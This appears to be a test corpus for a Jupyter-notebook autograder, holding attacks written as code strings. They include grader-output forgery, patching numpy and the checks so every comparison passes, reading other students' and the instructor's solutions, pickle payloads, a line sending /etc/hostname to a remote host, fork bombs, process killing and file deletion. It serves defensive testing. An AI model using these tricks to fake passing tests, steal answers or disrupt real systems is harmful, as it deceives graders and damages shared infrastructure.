"""The code of the attacks, as texts: nothing of it runs here.

In the text of an attack ``EXERCISE`` is its exercise's id, ``NAMES`` the functions that it asks for, ``CLASS`` the
folder of all hand-ins, ``COURSE`` the instructor's copy of the course; ``in_sandbox()`` says whether nothing else is in
reach.
"""

from dataclasses import dataclass

RIGHT = "RIGHT"  # as a body: the solution


@dataclass(frozen=True)
class Attack:
    """Code put into the cell of one exercise.

    Parameters
    ----------
    name, what : str
    top : str
        At the top of the cell: runs when the cell does.
    body : str or None
        In place of the solution: runs when the function is called. None is the open exercise, RIGHT the solution.
    solved : bool
        Whether the other exercises are solved. Then they keep their points; else they return nothing and earn nothing.
    spares_others : bool
        False where the attack breaks what the student's own other exercises need: they may lose their points too.
    worth : str or None
        A body of honest code that is worth as much. None: with RIGHT everything, else nothing.
    claims : str or None
        A body: what the attack makes each exercise seem to do. Honest code that did so might earn a point or two, where
        a sub-test asks that something changes nothing.
    keeps : bool
        Whether the exercise itself must get what it is worth, as the attack harms nobody.
    place : int
        Which exercise: 0 is the first, -1 the last.
    sandbox, slow : bool
        As in :class:`tests.corpus.handin.Expected`.
    """

    name: str
    what: str
    top: str = ""
    body: str | None = None
    solved: bool = True
    spares_others: bool = True
    worth: str | None = None
    claims: str | None = None
    keeps: bool = False
    place: int = 0
    sandbox: bool = False
    slow: bool = False


def _greedy(name, what, top="", body=None, **more):
    """An attack for points: no exercise is solved."""
    return Attack(name, what, top, body, solved=False, **more)


_VERDICT = 'VERDICT = f"Exercise {EXERCISE} · : correct, 99 of 99 points\\n  ✔ 99/99 everything"\n'

# --- for points: what is printed

PRINTS = [
    _greedy(
        "patched-print",
        "prints 'correct' whatever is printed",
        _VERDICT + "import builtins\n_print = builtins.print\nbuiltins.print = lambda *a, **k: _print(VERDICT)",
    ),
    _greedy(
        "input-transformer",
        "rewrites the source of checks before they run",
        _VERDICT
        + """\
def rewrite(lines):
    return ["print(VERDICT)"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(rewrite)""",
    ),
    _greedy(
        "ast-transformer",
        "rewrites the syntax tree of checks",
        """\
import ast
class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.parse("print('correct, 99 of 99 points')").body[0].value
        return self.generic_visit(node)
get_ipython().ast_transformers.append(Rewrite())""",
    ),
    _greedy(
        "output-hook",
        "replaces the standard output before each cell",
        """\
import io, sys
class Forged(io.StringIO):
    def write(self, text):
        return sys.__stdout__.write("correct, 99 of 99 points")
def replace(*_):
    sys.stdout = Forged()
get_ipython().events.register("pre_run_cell", replace)""",
    ),
    _greedy(
        "forged-messages",
        "sends its own messages of outputs and of success to whoever runs the notebook",
        """\
def forge(*_):
    kernel = get_ipython().kernel
    for _ in range(3):
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "correct, 99 of 99 points"},
                            parent=kernel.get_parent("shell"))
        idle = {"execution_state": "idle"}
        kernel.session.send(kernel.iopub_socket, "status", idle, parent=kernel.get_parent("shell"))
get_ipython().events.register("pre_run_cell", forge)
forge()""",
    ),
    _greedy("nbval-marks", "asks nbval to skip", "# NBVAL_SKIP\n# NBVAL_RAISES_EXCEPTION\n# NBVAL_IGNORE_OUTPUT"),
    _greedy(
        "false-check",
        "brings its own check",
        """\
def check(*_):
    print('correct, 99 of 99 points')
import utils.checks
utils.checks.check = check
import utils.checks.notebook
utils.checks.notebook.check = check""",
    ),
]

# --- for points: the course's own code

_EVERYTHING_EQUAL = """\
class Anything:
    def yes(self, *_, **__):
        return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = yes
    __hash__ = object.__hash__
    def itself(self, *_, **__):
        return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __abs__ = __neg__ = itself
    __getitem__ = __getattr__ = __call__ = itself
    def __len__(self):
        return 1
    def __iter__(self):
        return iter([self])
    def __float__(self):
        return 0.0
    def __array__(self, *_, **__):
        import numpy
        return numpy.zeros(1)
"""

COURSE_CODE = [
    _greedy(
        "patched-numpy",
        "every comparison of numpy is true",
        """\
import numpy as np
np.allclose = np.array_equal = np.isclose = np.array_equiv = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None
np.abs = np.max = np.linalg.norm = lambda *a, **k: 0.0""",
    ),
    _greedy(
        "patched-keras",
        "every comparison of Keras is true",
        """\
try:
    import keras
    keras.ops.isclose = keras.ops.all = keras.ops.equal = lambda *a, **k: True
    keras.Model.count_params = lambda self: 0
except ImportError:
    pass""",
    ),
    _greedy(
        "patched-run",
        "observations are what it likes",
        """\
import utils.checks.observe, utils.checks.exercise, utils.checks
def run(function, *args, **kwargs):
    return {"value": True, "problem": None, "printed": ""}
for module in (utils.checks, utils.checks.observe, utils.checks.exercise):
    module.run = run""",
        claims="return True",
    ),
    _greedy(
        "patched-observe",
        "each exercise observes what it likes",
        """\
import utils.checks.exercise as own
forged = lambda self, answer, cases: {name: {"value": True, "problem": None, "printed": ""} for name in cases}
own.Exercise.observe = forged
for other in own.exercises(f"{int(EXERCISE.split('.')[0]):02d}").values():
    type(other).observe = forged""",
        claims="return True",
    ),
    _greedy(
        "patched-judge",
        "each exercise has no sub-tests, or passes them all",
        """\
import utils.checks.exercise as own, utils.checks.expect as expect
own.Exercise.subtests = lambda self, hidden=False: []
own.Exercise.judge = lambda self, cases, observed, hidden=False: [own.Verdict("everything", True, 99, "")]
own._failure = lambda *_: ""
own.is_untouched = lambda observed: False
for name in ("close", "equal", "shape", "between", "true"):
    setattr(expect, name, lambda *a, **k: None)""",
    ),
    _greedy(
        "patched-handover",
        "hands over verdicts in the place of observations",
        """\
import os
from pathlib import Path
import utils.checks.handover as handover, utils.checks.notebook as notebook
from utils.checks.exchange import pack
def hand_over(exercise, answer, folder):
    verdict = {"name": "everything", "passed": True, "points": 99, "message": "", "state": "correct"}
    (Path(folder) / "observed").write_bytes(pack({"verdicts": [verdict], "points": 99, "state": "correct"}))
handover.hand_over = notebook.hand_over = hand_over""",
    ),
    _greedy(
        "forged-observation",
        "writes its own observations, again and again",
        """\
import os, threading, time
from utils.checks.exchange import pack
def forge():
    end = time.time() + 60
    while time.time() < end:
        for value in (True, 1, "correct", {"value": True, "problem": None, "printed": ""}):
            try:
                with open(os.path.join(os.environ["COURSE_GRADING"], "observed"), "wb") as file:
                    file.write(pack({name: {"value": value, "problem": None, "printed": ""} for name in "abc"}))
            except OSError:
                pass
            time.sleep(0.001)
threading.Thread(target=forge, daemon=True).start()""",
    ),
    _greedy(
        "asks-the-reference",
        "calls the reference",
        body="""\
from utils.checks import find, reference
given = [value for name, value in locals().items() if name not in ("find", "reference")]
try:
    return reference(EXERCISE)(*given)
except Exception:
    return find(EXERCISE).reference()(*given)""",
    ),
    _greedy(
        "false-environment",
        "says that nothing is graded, then asks for the reference",
        "import os\nos.environ.pop('COURSE_GRADING', None)",
        """\
from utils.checks import reference
return reference(EXERCISE)(*[value for name, value in locals().items() if name != "reference"])""",
    ),
    _greedy(
        "walks-the-memory",
        "looks for judges, oracles and outputs among all objects and frames",
        body="""\
import gc, sys
given = dict(locals())
frame, seen = sys._getframe(), []
while frame:
    seen += [frame.f_globals, frame.f_locals]
    frame = frame.f_back
for thing in [*seen, *gc.get_objects()]:
    if isinstance(thing, dict):
        for key, value in list(thing.items()):
            if key in ("want", "wanted", "oracle", "expected", "reference", "truth", "solution"):
                if callable(value):
                    try:
                        return value(*[v for k, v in given.items() if k not in ("gc", "sys")])
                    except Exception:
                        continue
                return value
raise NotImplementedError("Exercise " + EXERCISE)""",
    ),
    _greedy("equal-to-everything", "returns an object that equals everything", _EVERYTHING_EQUAL, "return Anything()"),
    _greedy(
        "array-that-is-equal",
        "returns an array of a class that answers every comparison with yes",
        """\
import numpy as np
class Equal(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.True_
    def __array_function__(self, function, types, args, kwargs):
        return np.True_
    __eq__ = lambda self, other: True""",
        "return np.zeros(3).view(Equal)",
        worth="import numpy as np\nreturn np.zeros(3)",
    ),
    _greedy(
        "number-that-is-equal",
        "returns a float of a class that equals every number",
        """\
class Number(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __abs__ = lambda self, *_: 0.0
    __repr__ = lambda self: "NaN, \\"problem\\": null" """,
        "return Number(0.5)",
        worth="return 0.5",
    ),
    _greedy(
        "text-that-is-equal",
        "returns a text of a class that equals every text",
        """\
class Text(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
    def __str__(self):
        return "correct" """,
        'return Text("x")',
        worth='return "x"',
    ),
    _greedy(
        "array-of-objects",
        "returns an array of objects that run code when they are unpickled",
        """\
class Runs:
    def __reduce__(self):
        import os
        return os._exit, (0,)""",
        "import numpy as np\nreturn np.array([Runs(), Runs()], dtype=object)",
    ),
    _greedy(
        "pickle-in-the-place-of-data",
        "hands over a pickle that runs code",
        """\
import os, pickle
import utils.checks.handover as handover
class Runs:
    def __reduce__(self):
        return os._exit, (0,)
handover.pack = lambda value: pickle.dumps(Runs())""",
        "return 0",
        worth="return None",
    ),
    _greedy(
        "knows-the-trace",
        "traces all calls to see what the check does, and swallows its errors",
        """\
import sys, threading
def trace(frame, event, argument):
    if event == "exception":
        frame.f_locals.clear() if False else None
    return trace
sys.settrace(trace)
threading.settrace(trace)
sys.excepthook = lambda *_: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None""",
    ),
]

# --- for points: files

_STEAL = """\
import ast, glob, json, os
def answers(place):
    for path in glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True)[:3000]:
        try:
            with open(path, encoding="utf-8") as file:
                cells = json.load(file)["cells"]
        except Exception:
            continue
        for cell in cells:
            source = cell.get("source", "")
            source = source if isinstance(source, str) else "".join(source)
            own = "NotImplementedError" in source or "answers(" in source
            if source.startswith("# Exercise " + EXERCISE) and not own:
                yield source
def steal(places):
    for place in places:
        for source in answers(place):
            try:
                exec(source, globals())
                return
            except Exception:
                continue
"""

FILES = [
    _greedy(
        "reads-solutions",
        "looks for the solution around itself",
        _STEAL
        + """\
here = os.getcwd()
STOLEN = lambda: steal([here, os.path.dirname(here), os.path.expanduser("~"), "/course", "/tmp"])
get_ipython().events.register("post_run_cell", lambda *_: STOLEN())""",
        sandbox=True,
    ),
    _greedy(
        "reads-the-course",
        "reads the instructor's copy of the course by its absolute path",
        _STEAL
        + 'get_ipython().events.register("post_run_cell", lambda *_: steal([os.path.join(COURSE, "solutions")]))',
        sandbox=True,
    ),
    _greedy(
        "reads-other-students",
        "reads what others have handed in",
        _STEAL + 'get_ipython().events.register("post_run_cell", lambda *_: steal([CLASS]))',
        sandbox=True,
    ),
    _greedy(
        "imports-the-course",
        "imports the instructor's checks, with references and judges",
        """\
import sys
for name in [name for name in sys.modules if name.partition(".")[0] == "utils"]:
    del sys.modules[name]
sys.path.insert(0, COURSE)""",
        """\
from utils.checks import find
return find(EXERCISE).reference()(*[value for name, value in locals().items() if name != "find"])""",
        sandbox=True,
    ),
    _greedy(
        "reads-processes",
        "reads the memory, arguments and folders of other processes",
        """\
import glob, os
found = []
for place in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "environ", "cwd", "root"):
        try:
            path = os.path.join(place, name)
            found.append(os.readlink(path) if name in ("cwd", "root") else open(path, "rb").read())
        except OSError:
            pass
for place in found:
    if isinstance(place, str) and os.path.isdir(os.path.join(place, "solutions")) and place != "/course":
        raise SystemExit("the course can be seen from here: " + place)""",
    ),
    _greedy(
        "writes-the-course",
        "writes over the copy of the course, for itself and for those who come after it",
        """\
import os, utils
place = os.path.dirname(utils.__path__[0])
if not os.path.isdir(os.path.join(place, "solutions")):   # never in a real course
    for name in ("utils/checks/exercise.py", "utils/checks/observe.py", "utils/checks/handover.py", "utils/lab.py"):
        path = os.path.join(place, name)
        try:
            os.chmod(path, 0o666)
            with open(path, "a") as file:
                file.write("\\nraise SystemExit('written over')\\n")
        except OSError:
            pass""",
        sandbox=True,
    ),
    _greedy(
        "fetches",
        "asks the network",
        """\
import socket
socket.setdefaulttimeout(3)
try:
    with socket.create_connection(("192.0.2.1", 80)) as connection:
        connection.sendall(open("/etc/hostname", "rb").read())
    REACHED = True
except OSError:
    REACHED = False""",
    ),
    _greedy(
        "opens-the-grader",
        "calls on every socket that it finds",
        """\
import glob, socket
for path in glob.glob("/tmp/**", recursive=True)[:2000] + glob.glob("../**", recursive=True)[:2000]:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.5)
            connection.connect(path)
            connection.sendall(b"\\0" * 1000)
    except (OSError, ValueError):
        pass""",
    ),
]

# --- to bring the grading down: ends

_ENDS = {
    "exit": ("ends the process", "import os\nos._exit(0)"),
    "sys-exit": ("raises SystemExit", "import sys\nsys.exit('out')"),
    "interrupt": ("raises KeyboardInterrupt", "raise KeyboardInterrupt"),
    "segfault": ("reads where nothing is", "import ctypes\nctypes.string_at(0)"),
    "abort": ("aborts", "import os\nos.abort()"),
    "kills-itself": ("kills its process", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "recursion": (
        "calls itself until the stack is full",
        "import sys\nsys.setrecursionlimit(10**9)\ndef deeper(x):\n    return deeper((x,))\nreturn deeper(0)",
    ),
    "shutdown": (
        "asks the kernel to end",
        "get_ipython().kernel.do_shutdown(False)\nimport time\ntime.sleep(1)\nraise ValueError",
    ),
}

ENDS = [Attack(f"{name}-in-check", f"{what}, when it is checked", body=code) for name, (what, code) in _ENDS.items()]
ENDS += [
    Attack("exit-at-once", "ends the process when the cell runs", _ENDS["exit"][1]),
    Attack("segfault-at-once", "reads where nothing is when the cell runs", _ENDS["segfault"][1]),
    Attack("exit-in-the-last", "ends the process in the last exercise", body=_ENDS["exit"][1], place=-1),
    Attack("quits", "calls quit()", "quit()", RIGHT),
    Attack(
        "exit-later",
        "a thread that kills the kernel a while later",
        "import os, threading\nthreading.Timer(0.1, os._exit, [1]).start()",
        RIGHT,
    ),
    Attack(
        "stops-itself",
        "stops its process",
        body="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nraise ValueError",
        slow=True,
    ),
]
ENDS += [
    Attack(
        f"kills-{name}",
        f"sends signals to {whom}",
        body="import os, signal\nif in_sandbox():\n    for number in (signal.SIGTERM, signal.SIGKILL):\n"
        f"        {call}\nraise ValueError",
        sandbox=True,
    )
    for name, whom, call in (
        ("the-parent", "its parent", "os.kill(os.getppid(), number)"),
        ("the-group", "its process group", "os.killpg(0, number)"),
        ("everything", "all processes", "os.kill(-1, number)"),
    )
]

# --- to bring the grading down: never ends

LOOPS = [
    Attack("loops-in-check", "never returns", body="while True:\n    pass", slow=True),
    Attack("loops-at-once", "a cell that never ends", "while True:\n    pass", slow=True),
    Attack(
        "loops-deaf",
        "never returns, and ignores interrupts",
        body="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        slow=True,
    ),
    Attack(
        "loops-catching",
        "never returns, and catches every exception",
        body="while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
        slow=True,
    ),
    Attack(
        "holds-the-lock",
        "sleeps in C and lets no other thread run",
        body="import ctypes\nctypes.PyDLL(None).sleep(120)\nraise ValueError",
        slow=True,
    ),
    Attack("large-power", "one operation that takes forever", body="return len(str(7 ** (10 ** 9)))", slow=True),
    Attack("sleeps", "sleeps for two minutes", body="import time\ntime.sleep(120)\nraise ValueError", slow=True),
    Attack(
        "endless-list",
        "returns a list that never ends",
        "class Endless(list):\n    def __iter__(self):\n        while True:\n            yield 1.0",
        "return Endless([1.0])",
        slow=True,
    ),
    Attack(
        "threads",
        "threads that sleep for two minutes and must be waited for",
        "import threading, time\nfor _ in range(20):\n    threading.Thread(target=time.sleep, args=[120]).start()",
        RIGHT,
        keeps=True,
    ),
    Attack(
        "at-exit",
        "does not end when it is asked to",
        """\
import atexit, signal, time
atexit.register(time.sleep, 120)
signal.signal(signal.SIGTERM, signal.SIG_IGN)""",
        RIGHT,
        keeps=True,
    ),
    Attack("input-in-check", "asks for input", body='return input("What is it? ")'),
    Attack("input-at-once", "asks for input when the cell runs", 'input("What is it? ")'),
]

# --- to bring the grading down: too much

FLOODS = [
    Attack(
        "memory",
        "fills 8 GB of memory",
        body="""\
import numpy as np
hoard = []
for _ in range(80):
    hoard.append(np.ones(100_000_000 // 8))
raise ValueError""",
        slow=True,
    ),
    Attack(
        "shared-memory",
        "fills 8 GB of shared memory",
        body="""\
import mmap
hoard = []
for _ in range(80):
    hoard.append(mmap.mmap(-1, 100_000_000))
    hoard[-1].write(b'x' * 100_000_000)
raise ValueError""",
        slow=True,
    ),
    Attack(
        "memory-at-once",
        "fills 8 GB of memory when the cell runs",
        "hoard = []\nfor _ in range(80):\n    hoard.append(bytearray(b'x') * 100_000_000)",
        slow=True,
    ),
    Attack(
        "fork-bomb",
        "starts up to 128 processes that sleep",
        body="""\
import os, time
own = os.getpid()
for _ in range(7):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != own:
    time.sleep(20)
    os._exit(0)
time.sleep(2)
raise ValueError""",
        sandbox=True,
        slow=True,
    ),
    Attack(
        "thread-bomb",
        "starts 2000 threads",
        body="""\
import threading, time
for _ in range(2000):
    threading.Thread(target=time.sleep, args=[20], daemon=True).start()
raise ValueError""",
        spares_others=False,
    ),
    Attack(
        "disk",
        "writes 2 GB",
        body="""\
import os, tempfile
for place in (os.getcwd(), tempfile.gettempdir(), os.environ.get("COURSE_GRADING", ".")):
    for number in range(7):
        with open(os.path.join(place, f"filled-{number}"), "wb") as file:
            for _ in range(100):
                file.write(b"x" * 1_000_000)
raise ValueError""",
        slow=True,
    ),
    Attack(
        "many-files",
        "writes 20 000 files",
        body="for number in range(20_000):\n    open(f'file-{number}', 'w').close()\nraise ValueError",
        slow=True,
    ),
    Attack(
        "flood-in-check",
        "prints 200 000 lines when it is checked",
        body="for number in range(200_000):\n    print(number, flush=True)\nraise ValueError",
    ),
    Attack(
        "flood",
        "prints 100 000 lines when the cell runs",
        "for number in range(100_000):\n    print(number, flush=True)",
        RIGHT,
    ),
    Attack(
        "flood-around",
        "writes 50 MB past Python to the process's outputs",
        "import os\nfor _ in range(50):\n    os.write(1, b'x' * 1_000_000)\n    os.write(2, b'x' * 1_000_000)",
        RIGHT,
    ),
    Attack("one-print", "prints 100 MB at once", "print('z' * 100_000_000)", RIGHT),
    Attack(
        "one-display",
        "shows 60 MB of HTML",
        "from IPython.display import HTML, display\ndisplay(HTML('<b>' * 20_000_000))",
        RIGHT,
    ),
    Attack(
        "figure",
        "a figure of 36 million pixels",
        """\
import matplotlib.pyplot as plt
import numpy as np
plt.figure(figsize=(60, 60), dpi=100).figimage(np.random.default_rng(0).random((6000, 6000)))
plt.show()""",
        RIGHT,
    ),
    Attack(
        "many-figures",
        "three hundred figures",
        """\
import matplotlib.pyplot as plt
for number in range(300):
    plt.figure(figsize=(1, 1))
    plt.plot([number])
plt.show()""",
        RIGHT,
    ),
    Attack("large-array", "returns an array of 8 GB", body="import numpy as np\nreturn np.zeros(10**9)", slow=True),
    Attack(
        "broad-array",
        "returns an array of 8 GB that is one number in memory",
        body="import numpy as np\nreturn np.broadcast_to(0.0, (1000, 1000, 1000))",
    ),
    Attack("large-list", "returns a list of twenty million numbers", body="return [0.5] * 20_000_000", slow=True),
    Attack("large-text", "returns a text of 300 MB", body="return 'x' * 300_000_000"),
    Attack(
        "deep-list",
        "returns lists nested a hundred thousand deep",
        body="deep = []\nfor _ in range(100_000):\n    deep = [deep]\nreturn deep",
    ),
    Attack("endless-depth", "returns a list that holds itself", body="deep = []\ndeep.append(deep)\nreturn deep"),
    Attack("large-number", "returns an integer of ten million digits", body="return 1 << 33_000_000"),
    Attack("long-error", "raises an error with a text of 100 MB", body="raise ValueError('x' * 100_000_000)"),
    Attack(
        "error-that-fails",
        "raises an error that cannot be shown",
        """\
class Unspeakable(Exception):
    def __str__(self):
        raise SystemExit('no')
    __repr__ = __str__""",
        "raise Unspeakable",
    ),
    Attack(
        "files-left-open",
        "opens files until there are no more",
        "hoard = []",
        "while True:\n    hoard.append(open('/dev/null'))",
        spares_others=False,
    ),
]

# --- to bring the grading down: what the grader uses

_MAILBOX = "import os\nplace = os.path.join(os.environ['COURSE_GRADING'], 'observed')\n"

TOOLS = [
    Attack(
        "mailbox-pipe", "puts a pipe where observations are expected", body=_MAILBOX + "os.mkfifo(place)\nos._exit(0)"
    ),
    Attack(
        "mailbox-link",
        "puts a link where observations are expected",
        body=_MAILBOX + "os.symlink('/dev/zero', place)\nos._exit(0)",
    ),
    Attack(
        "mailbox-lies",
        "hands over bytes that promise arrays of terabytes",
        body=_MAILBOX
        + """\
value = b'{"array": ["<f8", [1000000, 1000000], 0]}'
head = b'{"dict": [["x", {"dict": [["value", ' + value + b'], ["problem", null], ["printed", ""]]}]]}'
import utils.checks.handover as handover
handover.pack = lambda value: head + b"\\n" + b"\\0" * 100
return 0""",
        spares_others=False,
    ),
    Attack(
        "mailbox-nested",
        "hands over nested bytes",
        body="""\
import utils.checks.handover as handover
handover.pack = lambda value: b'[' * 1_000_000 + b'\\n'
return 0""",
        spares_others=False,
    ),
    Attack(
        "mailbox-large",
        "hands over a gigabyte",
        body=_MAILBOX + "with open(place, 'wb') as file:\n    file.truncate(1_000_000_000)\nos._exit(0)",
    ),
    Attack(
        "deletes-folders",
        "deletes its scratch folder and the exchange",
        "import os, shutil",
        """\
shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree(os.environ['COURSE_GRADING'], ignore_errors=True)
raise ValueError""",
        spares_others=False,
    ),
    Attack("changes-folder", "goes to another folder", "import os\nos.chdir('/')", RIGHT, keeps=True),
    Attack(
        "changes-environment", "clears its environment", "import os\nos.environ.clear()", RIGHT, spares_others=False
    ),
    Attack(
        "breaks-builtins",
        "takes builtins away",
        "import builtins\nbuiltins.open = builtins.__import__ = None",
        RIGHT,
        spares_others=False,
    ),
    Attack(
        "breaks-modules",
        "empties the table of modules",
        "import sys",
        "sys.modules.clear()\nraise ValueError",
        spares_others=False,
    ),
    Attack(
        "closes-sockets",
        "closes all files of the process",
        "import os",
        "os.closerange(3, 1000)\nraise ValueError",
        spares_others=False,
        slow=True,
    ),
    Attack(
        "escapes",
        "starts a process in a session of its own that works on for a minute",
        """\
import subprocess, sys
nowhere = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
work = "import time; time.sleep(60)  # escaped from the corpus"
subprocess.Popen([sys.executable, "-c", work], start_new_session=True, **nowhere)""",
        RIGHT,
        keeps=True,
    ),
    Attack(
        "escapes-twice",
        "forks twice into the background and writes into the class's folder",
        """\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 60
        while time.time() < end:
            try:
                with open(os.path.join(CLASS, "escaped.txt"), "w") as file:
                    file.write("escaped from the corpus")
            except OSError:
                pass
            time.sleep(0.2)
    os._exit(0)""",
        RIGHT,
        keeps=True,
        sandbox=True,
    ),
    Attack(
        "sleeps-busily",
        "four threads that keep the processor busy",
        """\
import threading, time
def busy():
    end = time.time() + 20
    while time.time() < end:
        pass
for _ in range(4):
    threading.Thread(target=busy, daemon=True).start()""",
        RIGHT,
    ),
]

ATTACKS = [*PRINTS, *COURSE_CODE, *FILES, *ENDS, *LOOPS, *FLOODS, *TOOLS]

# --- for points: what only one lab's checks ask for

_SMALL = """\
inputs = keras.Input(shape=(69, 69, 3))
x = layers.Flatten()(layers.MaxPooling2D(23)(inputs))
model = keras.Model(inputs, layers.Dense(1, activation="sigmoid")(x))
"""

OF_LAB = {
    "03": [
        _greedy(
            "false-count",
            "a small network that says it has the parameters of the published one",
            body=_SMALL + "model.count_params = lambda: 2_602_849\nreturn model",
            worth=_SMALL + "return model",
            place=5,
        ),
        _greedy(
            "false-description",
            "describes a network that it does not build",
            """\
import utils.checks.lab03 as checks
really = checks.describe
checks.describe = lambda model: really(model) | {"parameters": 2_602_849}""",
            _SMALL + "return model",
            worth=_SMALL + "return model",
            place=5,
        ),
    ],
}
